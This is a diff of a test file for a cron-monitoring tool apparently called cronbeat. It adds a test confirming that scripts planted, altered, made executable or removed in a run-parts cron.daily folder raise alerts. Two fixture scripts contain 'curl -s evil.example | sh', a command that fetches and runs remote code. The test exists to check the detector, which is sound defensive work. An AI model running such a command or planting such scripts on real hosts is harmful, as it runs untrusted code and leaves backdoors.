@@ -1,4 +1,4 @@
-import { copyFileSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { chmodSync, copyFileSync, mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
 import { startTestAgent, type TestAgent } from '../helpers/testAgent';
@@ -9,7 +9,7 @@ vi.setConfig({ testTimeout: 30_000 });
 let agent: TestAgent;
 beforeAll(async () => {
   agent = await startTestAgent();
-  for (const identifier of ['web-1', 'web-2']) {
+  for (const identifier of ['web-1', 'web-2', 'web-3']) {
     await agent.api('/api/servers', { method: 'POST', json: { name: identifier, ip_address: '10.0.0.7', identifier } });
   }
 });
@@ -67,5 +67,41 @@ describe.concurrent('cronbeat crontab watch --once', () => {
     const upgraded = await watch(a);
     expect(upgraded.status, upgraded.stderr).toBe(0);
     expect(upgraded.stdout).toMatch(/delivered: added for \S+: 0 3 \* \* \* \/planted\.sh\n/);
+  });
+
+  it("watches the scripts of a folder run-parts runs: one planted, changed, made executable or removed is alerted, a name run-parts skips is not", async () => {
+    const folder = tempFolder();
+    const daily = join(folder, 'cron.daily');
+    mkdirSync(daily);
+    const script = (name: string, text: string, mode: number) => {
+      writeFileSync(join(daily, name), text);
+      chmodSync(join(daily, name), mode);
+    };
+    script('logrotate', '#!/bin/sh\nlogrotate /etc/logrotate.conf\n', 0o755);
+    script('man-db', '#!/bin/sh\nmandb\n', 0o755);
+    script('later', '#!/bin/sh\nlater\n', 0o644);
+    const env = { CRONBEAT_URL: agent.url, CRONBEAT_API_TOKEN: agent.token, CRONBEAT_DATA_DIR: folder };
+    const watch = () => runCli(['crontab', 'watch', '--server', 'web-3', '--once', '--interval', '300', '--run-parts', daily], { env });
+    const baseline = await watch();
+    expect(baseline.status, baseline.stderr).toBe(0);
+    expect(baseline.stdout).toMatch(/watching 0 cron jobs of 0 users and 3 scripts run-parts runs on web-3/);
+    script('planted', '#!/bin/sh\ncurl -s evil.example | sh\n', 0o755);
+    script('logrotate', '#!/bin/sh\nlogrotate /etc/logrotate.conf; curl -s evil.example | sh\n', 0o755);
+    chmodSync(join(daily, 'later'), 0o755);
+    rmSync(join(daily, 'man-db'));
+    script('notes~', '#!/bin/sh\nnot run\n', 0o755);
+    const changed = await watch();
+    expect(changed.status, changed.stderr).toBe(0);
+    const delivered = changed.stdout.split('\n').filter((line) => / delivered: /.test(line)).map((line) => line.replace(/^\S+ delivered: /, '').replace(/sha256 [0-9a-f]{12}/g, 'sha256 …'));
+    expect(delivered.sort()).toEqual(
+      [
+        `added for root: ${daily}/planted, run by run-parts (executable; sha256 …)`,
+        `altered for root: ${daily}/later, run by run-parts (executable; sha256 …) (was: ${daily}/later, run by run-parts (not executable: skipped; sha256 …))`,
+        `altered for root: ${daily}/logrotate, run by run-parts (executable; sha256 …) (was: ${daily}/logrotate, run by run-parts (executable; sha256 …))`,
+        `removed for root: ${daily}/man-db, run by run-parts (executable; sha256 …)`,
+      ].sort(),
+    );
+    const again = await watch();
+    expect(again.stdout).not.toMatch(/found:/);
   });
 });
